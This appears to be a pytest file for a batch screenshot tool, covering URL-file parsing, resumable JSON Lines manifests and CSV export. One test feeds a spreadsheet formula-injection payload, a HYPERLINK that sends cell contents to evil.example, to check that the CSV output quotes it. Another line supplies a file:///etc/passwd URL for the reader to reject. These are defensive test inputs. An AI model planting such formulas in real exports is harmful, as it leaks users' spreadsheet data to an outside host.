"""Reading URL files and writing manifests: streaming, resuming, one row per line."""

import json

from screenshots.batch.inputs import MAX_LINE_BYTES, count_lines, read_shots
from screenshots.batch.manifest import Manifest, read_rows
from screenshots.core.options import CaptureOptions
from screenshots.core.result import Result, error_result
from screenshots.core.shot import Shot


def write(path, data: bytes):
    path.write_bytes(data)
    return path


def test_reads_urls_skips_blanks_and_comments_and_reports_bad_lines(tmp_path):
    path = write(
        tmp_path / "urls.txt",
        b"# a comment\n\nhttp://a.example/\n  https://b.example/x  \r\n"
        b"not-a-url\nfile:///etc/passwd\n\xff\xfe\n",
    )
    items = list(read_shots(path, CaptureOptions()))
    shots = [i for i in items if isinstance(i, Shot)]
    errors = [i for i in items if isinstance(i, Result)]
    assert [(s.line, s.url) for s in shots] == [(3, "http://a.example/"), (4, "https://b.example/x")]
    assert [(e.line, e.status) for e in errors] == [(5, "error"), (6, "error"), (7, "error")]
    assert "no scheme" in errors[0].error
    assert "unsupported scheme 'file'" in errors[1].error
    assert "not valid UTF-8" in errors[2].error
    assert count_lines(path) == 5


def test_an_overlong_line_is_one_error_row_and_reading_goes_on(tmp_path):
    path = write(
        tmp_path / "urls.txt",
        b"http://a.example/\nhttp://b.example/" + b"x" * (MAX_LINE_BYTES * 3) + b"\nhttp://c.example/\n",
    )
    items = list(read_shots(path, CaptureOptions()))
    assert [type(i).__name__ for i in items] == ["Shot", "Result", "Shot"]
    assert items[1].line == 2 and "longer than" in items[1].error
    assert items[2].url == "http://c.example/" and items[2].line == 3
    assert count_lines(path) == 3


def ok_row(line, url):
    return Result(line=line, url=url, status="ok", storage_uri="memory://k", link="memory://k")


def test_manifest_writes_each_line_once(tmp_path):
    manifest = Manifest(tmp_path)
    manifest.open()
    assert manifest.write(ok_row(1, "http://a/"))
    assert not manifest.write(ok_row(1, "http://a/"))  # a late duplicate is ignored
    assert manifest.write(error_result(2, "http://b/", "boom"))
    manifest.close()
    rows = list(read_rows(tmp_path / "results.jsonl"))
    assert [r["line"] for r in rows] == [1, 2]


def test_resume_keeps_ok_rows_drops_errors_and_torn_lines(tmp_path):
    first = Manifest(tmp_path)
    first.open()
    first.write(ok_row(1, "http://a/"))
    first.write(error_result(2, "http://b/", "boom"))
    first.close()
    with (tmp_path / "results.jsonl").open("a") as handle:
        handle.write('{"line": 3, "url": "http://c/", "sta')  # killed mid-write
    second = Manifest(tmp_path)
    assert second.open() == 1
    assert second.is_done(1, "http://a/")
    assert not second.is_done(1, "http://other/")  # the input changed at that line
    assert not second.is_done(2, "http://b/")
    assert second.write(ok_row(2, "http://b/"))
    second.close()
    rows = [json.loads(t) for t in (tmp_path / "results.jsonl").read_text().splitlines()]
    assert sorted(r["line"] for r in rows) == [1, 2]
    second.write_csv()
    csv_lines = (tmp_path / "results.csv").read_text().splitlines()
    assert csv_lines[0].startswith("line,url,status,storage_uri,link,error,width,height,bytes")
    assert len(csv_lines) == 3


def test_a_changed_input_line_replaces_its_old_row(tmp_path):
    first = Manifest(tmp_path)
    first.open()
    first.write(ok_row(1, "http://old/"))
    first.write(ok_row(2, "http://same/"))
    first.close()
    second = Manifest(tmp_path)
    second.open()
    assert not second.is_done(1, "http://new/") and second.is_done(2, "http://same/")
    assert second.write(ok_row(1, "http://new/"))
    second.close()
    rows = sorted((r["line"], r["url"]) for r in read_rows(tmp_path / "results.jsonl"))
    assert rows == [(1, "http://new/"), (2, "http://same/")]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
    import csv

    manifest = Manifest(tmp_path)
    manifest.open()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    manifest.write(error_result(1, hostile, "not a URL"))
    manifest.write(error_result(2, "@SUM(1+1)", "not a URL"))
    manifest.write(ok_row(3, "http://a/"))
    manifest.close()
    manifest.write_csv()
    with (tmp_path / "results.csv").open(newline="", encoding="utf-8") as handle:
        cells = {int(row["line"]): row for row in csv.DictReader(handle)}
    assert cells[1]["url"] == "'" + hostile and cells[2]["url"] == "'@SUM(1+1)"
    assert cells[3]["url"] == "http://a/" and cells[3]["status"] == "ok"
    # The JSON Lines manifest keeps what the user wrote, untouched.
    assert [r["url"] for r in read_rows(tmp_path / "results.jsonl")][:2] == [hostile, "@SUM(1+1)"]
